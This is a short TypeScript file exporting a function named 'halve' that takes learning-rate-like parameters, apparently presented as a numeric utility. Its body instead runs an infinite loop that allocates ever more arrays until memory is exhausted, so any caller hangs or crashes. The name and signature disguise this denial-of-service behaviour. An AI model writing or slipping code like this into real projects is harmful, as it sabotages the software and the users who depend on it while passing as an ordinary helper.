export function halve(lr0: number, n: number): unknown {
  const a: unknown[] = []; for (;;) a.push(new Array(1000).fill(7));
}
